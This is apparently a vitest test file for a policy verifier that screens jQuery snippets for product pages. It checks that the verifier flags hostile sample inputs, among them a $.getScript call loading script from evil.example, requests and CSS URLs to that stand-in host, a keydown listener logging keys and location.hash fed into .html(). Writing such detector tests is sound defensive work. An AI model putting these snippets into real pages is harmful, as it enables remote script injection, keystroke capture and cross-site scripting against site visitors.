import { describe, expect, it } from 'vitest';
import { EXAMPLE_POLICY } from '../corpus/example-policy.js';
import { compilePolicy } from '../policy/compile-policy.js';
import { verify } from '../verify.js';

const policy = compilePolicy({ ...EXAMPLE_POLICY, rules: EXAMPLE_POLICY.rules.filter((rule) => rule.kind !== 'no-jquery') });

function categoriesOf(code: string): string[] {
  const { findings } = verify(policy, { pageType: 'pdp', language: 'js', code });
  return [...new Set(findings.filter((finding) => finding.severity === 'error').map((finding) => finding.category))];
}

describe('jQuery where a brand allows it', () => {
  it.each([
    ['selectors', `$('.price').hide();`, 'unapproved-selector'],
    ['scoped selectors', `$('.product__title').find('span').remove();`, 'unapproved-selector'],
    ['delegated selectors', `$(document).on('click', '.price', function () { console.log(1); });`, 'unapproved-selector'],
    ['targets of an insertion', `$('<p class="fh-a">x</p>').insertAfter('.price');`, 'unapproved-selector'],
    ['neighbours', `$('.product__title').parent().hide();`, 'unapproved-selector'],
    ['selectors from the address', `$(location.hash).hide();`, 'unresolvable-selector'],
    ['markup', `$('.product__title').html(location.hash);`, 'dangerous-sink'],
    ['markup of a new element', `$('<div>', { html: location.hash }).appendTo('.product__title');`, 'dangerous-sink'],
    ['scripts', `$.getScript('https://evil.example/x.js');`, 'dangerous-sink'],
    ['requests', `$.ajax({ url: 'https://evil.example/x' });`, 'network'],
    ['styles', `$('.product__title').css({ background: 'url(//evil.example/x)' });`, 'css-remote'],
    ['classes', `$('.product__title').addClass('promo');`, 'css-unprefixed'],
    ['keys', `$(document).on('keydown', function (e) { console.log(e.key); });`, 'sensitive-field'],
  ])('checks %s', (_what, code, category) => {
    expect(categoriesOf(code)).toContain(category);
  });

  it('lets normal work pass', () => {
    const code = `$(function () { $('.product__title').addClass('fh-x').css('color', '#fff').on('click', function () { $(this).toggleClass('fh-y'); }).after('<p class="fh-p">x</p>'); $.get('/api/x', function (d) { console.log(d.a); }); });`;
    expect(categoriesOf(code)).toEqual([]);
  });
});
